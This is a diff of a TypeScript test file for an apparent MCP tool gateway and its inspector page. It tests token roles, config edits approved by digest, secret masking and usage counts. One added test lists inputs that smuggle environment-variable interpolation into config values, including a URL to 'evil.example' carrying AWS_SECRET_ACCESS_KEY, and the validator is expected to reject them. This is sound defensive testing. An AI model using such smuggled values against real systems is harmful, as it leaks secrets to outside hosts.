@@ -18,6 +18,8 @@ const ORIGIN = 'http://localhost'
 const BEARER = { authorization: `Bearer ${TOKEN}` }
 const FROM_PAGE = { ...BEARER, 'x-toolcrib-page': '1' }
 
+const OF_CLIENT = 'a-token-of-some-client'
+
 const add = defineTool({
   name: 'add',
   description: 'Adds two numbers.',
@@ -29,7 +31,12 @@ function open(more: Partial<InspectorOptions> = {}, gatewayOptions: Partial<Gate
   const registry = more.registry ?? new ToolRegistry({ mode: 'lazy', defer: 'all' })
   if (!registry.has('add')) registry.register(add)
   const servers = connectServers(registry, { mcpServers: {} })
-  const gateway = createGateway({ registry, servers, tokens: [{ token: TOKEN }], ...gatewayOptions })
+  const gateway = createGateway({
+    registry,
+    servers,
+    tokens: [{ token: TOKEN, operator: true }],
+    ...gatewayOptions,
+  })
   const inspector = createInspector({ registry, servers, access: gateway.access, ...more })
   const close = async () => {
     await inspector.close()
@@ -95,8 +102,8 @@ describe('the API of the page', () => {
     expect(statuses).toEqual([401, 401, 403, 403, 200, 200])
   })
 
-  it('refuses a token that is bound to a profile', async () => {
-    const { get } = open({}, { tokens: [{ token: TOKEN, profile: 'reader' }], profiles: { reader: {} } })
+  it.each([{}, { profile: 'reader' }])('refuses the token of a client: %j', async (bound) => {
+    const { get } = open({}, { tokens: [{ token: TOKEN, ...bound }], profiles: { reader: {} } })
     expect((await get('/api/tools')).status).toBe(403)
   })
 
@@ -158,26 +165,79 @@ describe('the API of the page', () => {
     ])
   })
 
-  it('approves nothing without a digest, and writes no config that it was not given', async () => {
+  it('approves nothing and writes nothing without a config, and takes neither commands nor variables', async () => {
     const { post } = open()
     const error = async (path: string, body: object) => (await (await post(path, body)).json()).error
     expect(await error('/api/approve', { patterns: ['*'] })).toContain('without a config file')
     const edit = { kind: 'pin', server: 's', tool: 't' }
     expect(await error('/api/change-config', edit)).toContain('without a config file')
     expect(await error('/api/change-config', { ...edit, kind: 'command' })).toContain('must be one of')
+    for (const leak of [
+      { kind: 'add', server: 'x', url: `http://evil.example/\${AWS_SECRET_ACCESS_KEY}` },
+      { kind: 'add', server: 'x', url: 'http://evil.example', header: `x: \${HOME}` },
+      { kind: 'hint', server: 'x', tool: 'y', hint: `a \${HOME}` },
+      { kind: 'pin', server: 'x', tool: `\${HOME}` },
+      { kind: 'disable', server: `\${HOME}` },
+    ])
+      expect(await error('/api/change-config', leak)).toContain('a value with "${" cannot be set here')
+  })
+})
+
+/** The page of a gateway with a config file, which is empty. */
+async function openConfigured() {
+  const folder = mkdtempSync(join(tmpdir(), 'toolcrib-inspector-'))
+  onTestFinished(() => rmSync(folder, { recursive: true }))
+  const path = join(folder, 'team.toml')
+  writeFileSync(path, '')
+  const find = { path, cwd: folder, env: {} }
+  const opened = await openFromConfig({ ...find, store: false })
+  onTestFinished(() => opened.close())
+  const page = open({ registry: opened.registry, servers: opened.servers, config: { opened, find } })
+  return { ...page, folder, path, find, opened }
+}
+
+describe('what a person has not seen', () => {
+  it('is neither approved nor written to the config', async () => {
+    const { post, path } = await openConfigured()
+    const error = async (path: string, body: object) => (await (await post(path, body)).json()).error
+    for (const pattern of ['*', 'weather', 'weather@', 'weather@0123'])
+      expect(await error('/api/approve', { patterns: [pattern] })).toContain('approved by its digest')
+    const edit = { kind: 'add', server: 'wiki', url: 'https://wiki.example.com/mcp', confirmed: true }
+    for (const digest of ['', '0123456789abcdef'])
+      expect(await error('/api/change-config', { ...edit, digest })).toContain('changed meanwhile')
+    expect(readFileSync(path, 'utf8')).toBe('')
+  })
+})
+
+describe('a server with an address', () => {
+  it('is added with a header, and changed field by field, with the secrets masked that it had', async () => {
+    const { post, path } = await openConfigured()
+    const change = async (edit: object) => {
+      const draft = await (await post('/api/change-config', edit)).json()
+      if (draft.error) return draft.error
+      await post('/api/change-config', { ...edit, confirmed: true, digest: draft.digest })
+      return JSON.stringify(draft.diff)
+    }
+    const wiki = { server: 'wiki', url: 'http://127.0.0.1:9/mcp' }
+    await change({ ...wiki, kind: 'add', header: 'Authorization: Bearer a-long-secret-1234' })
+    expect(await change({ ...wiki, kind: 'change', url: 'http://127.0.0.1:9/v2' })).not.toContain(
+      'a-long-secret',
+    )
+    const text = readFileSync(path, 'utf8')
+    expect(text).toContain('http://127.0.0.1:9/v2')
+    expect(text).toContain('Bearer a-long-secret-1234')
+    await change({ kind: 'change', server: 'wiki', header: 'X-Team: blue' })
+    expect(readFileSync(path, 'utf8')).toMatch(/9\/v2[\s\S]*secret-1234[\s\S]*blue/)
+    expect(await change({ kind: 'change', server: 'wiki', header: 'no value' })).toContain(
+      'a header has a name',
+    )
+    expect(await change({ kind: 'change', server: 'other', url: wiki.url })).toContain('has no address')
   })
 })
 
 describe('approving without a lockfile', () => {
   it('names the command that writes the one of this config', async () => {
-    const folder = mkdtempSync(join(tmpdir(), 'toolcrib-inspector-'))
-    onTestFinished(() => rmSync(folder, { recursive: true }))
-    const path = join(folder, 'team.toml')
-    writeFileSync(path, '')
-    const find = { path, cwd: folder, env: {} }
-    const opened = await openFromConfig({ ...find, store: false })
-    onTestFinished(() => opened.close())
-    const { post } = open({ registry: opened.registry, servers: opened.servers, config: { opened, find } })
+    const { post, folder, path, find, opened } = await openConfigured()
     const answer = await post('/api/approve', { patterns: ['a@0123456789abcdef'] })
     expect(await answer.json()).toMatchObject({
       error: `there is no lockfile; write one with: toolcrib lock --config ${path}`,
@@ -227,7 +287,7 @@ describe('what waits for a person', () => {
       fails('a', missing),
       fails('b', missing),
       fails('c', missing),
-      { kind: 'server', title: '3 more servers do not run', step: 'd, e, keyless', to: '#/servers' },
+      { kind: 'server', title: '3 more servers do not run', step: 'Look at d, e, keyless.', to: '#/servers' },
       {
         kind: 'quarantine',
         title: '2 servers are not approved',
@@ -297,13 +357,18 @@ describe('what the page counts', () => {
     const registry = new ToolRegistry({ defer: 'all' })
     for (const valve of VALVES) registry.register(valve)
     const servers = connectServers(registry, {})
-    const gateway = createGateway({ registry, servers, tokens: [{ token: TOKEN }], mode })
+    const gateway = createGateway({
+      registry,
+      servers,
+      tokens: [{ token: TOKEN, operator: true }, { token: OF_CLIENT }],
+      mode,
+    })
     onTestFinished(async () => {
       await gateway.close()
       await servers.close()
     })
     const { get } = open({ registry, servers, gateway, access: gateway.access })
-    const client = await connectClient(gateway, { token: TOKEN })
+    const client = await connectClient(gateway, { token: OF_CLIENT })
     const listed = (await client.listTools()).tools.map(({ name, description, inputSchema }) => ({
       name,
       description,
@@ -490,6 +555,74 @@ describe('what the page counts', () => {
     const { clients } = await (await get('/api/overview')).json()
     expect(clients).toMatchObject([{ id: 'an editor', isNamed: true, sessions: 2, turns: 2, latest: null }])
     expect(clients[0].saved).toBeGreaterThan(0)
+  })
+
+  it('saves nothing for scripts, for the tour and for our own commands, whose calls it counts', async () => {
+    const named = new Map([
+      ['gateway:editor', 'an editor'],
+      ['gateway:doctor', 'toolcrib-doctor'],
+    ])
+    const clients = () => [...named].map(([id, name]) => ({ ...CLIENT, name, session: aliasOf(id) }))
+    const { registry, get } = open({ gateway: { clients } })
+    for (const valve of VALVES) registry.register(valve)
+    for (const id of [...named.keys(), 'gateway:script', 'demo:1']) {
+      const session = await registry.openSession({ id, strategy: 'dispatch' })
+      session.surface()
+      await session.execute([{ toolCallId: '1', name: 'tool_search', args: { query: 'add numbers' } }])
+    }
+    const { today, clients: rows } = await (await get('/api/overview')).json()
+    const [first, ...others] = rows
+    expect(first).toMatchObject({ id: 'an editor', turns: 1, calls: 1 })
+    expect(first.saved).toBeGreaterThan(0)
+    expect(others).toHaveLength(3)
+    for (const other of others) expect(other).toMatchObject({ turns: 0, shown: 0, saved: 0, calls: 1 })
+    expect(today).toMatchObject({ turns: 1, saved: first.saved, searches: 4 })
+    const sessions: { client: string; isCounted: boolean }[] = await (await get('/api/sessions')).json()
+    const counted = sessions.filter(({ isCounted }) => isCounted).map(({ client }) => client)
+    expect(counted).toEqual(['an editor'])
+  })
+
+  it('saves a client what the servers of its profile would cost, and not those of others', async () => {
+    const { opened, find, path } = await openConfigured()
+    writeFileSync(
+      path,
+      '[server.small]\ncommand = "x"\ndisabled = true\n[profile.small]\nservers = ["small"]\n',
+    )
+    const registry = new ToolRegistry({ mode: 'lazy', defer: 'all' })
+    const connected = { ...CLIENT, name: 'an editor', session: aliasOf('gateway:editor'), profile: 'small' }
+    const config = { opened: { ...opened, config: (await findConfig(find)).config }, find }
+    const { get } = open({ registry, config, gateway: { clients: () => [connected] } })
+    registry.syncMcp('small', VALVES.slice(0, 3))
+    registry.syncMcp(
+      'large',
+      VALVES.slice(3).map((valve) => ({ ...valve, description: 'Turns something. '.repeat(500) })),
+    )
+    const policy = { filter: { allowedMcpServers: ['small'] } }
+    const session = await registry.openSession({ id: 'gateway:editor', strategy: 'dispatch', policy })
+    session.surface()
+    await session.execute([{ toolCallId: '1', name: 'tool_search', args: { query: 'turn a valve' } }])
+    const { clients } = await (await get('/api/overview')).json()
+    // The search tool costs more than three small tools.
+    expect(clients).toMatchObject([{ id: 'an editor', turns: 1, saved: 0 }])
+  })
+
+  it('tells sessions of one client apart by what they are about', async () => {
+    const { registry, get } = open()
+    const session = await registry.openSession({ id: 'one', strategy: 'dispatch' })
+    await session.execute([{ toolCallId: '1', name: 'add', args: { a: 1 } }])
+    expect(await (await get('/api/sessions')).json()).toMatchObject([{ topic: 'add', profile: null }])
+    for (const query of ['add numbers', 'qwxzy'])
+      await session.execute([{ toolCallId: query, name: 'tool_search', args: { query } }])
+    expect(await (await get('/api/sessions')).json()).toMatchObject([{ topic: 'add numbers' }])
+  })
+
+  it('says of a search what models are told: that no tool fits well', async () => {
+    const registry = new ToolRegistry({ mode: 'lazy', searcher: hybrid({ embedder: staticEmbedder() }) })
+    const { get } = open({ registry })
+    const adviceOn = async (query: string) =>
+      (await (await get(`/api/search?query=${encodeURIComponent(query)}`)).json()).sides[0].advice
+    expect(await adviceOn('number of banana split')).toMatch(/^No tool fits/)
+    expect(await adviceOn('add two numbers')).toBeNull()
   })
 
   it('follows events as they happen, in batches', async () => {
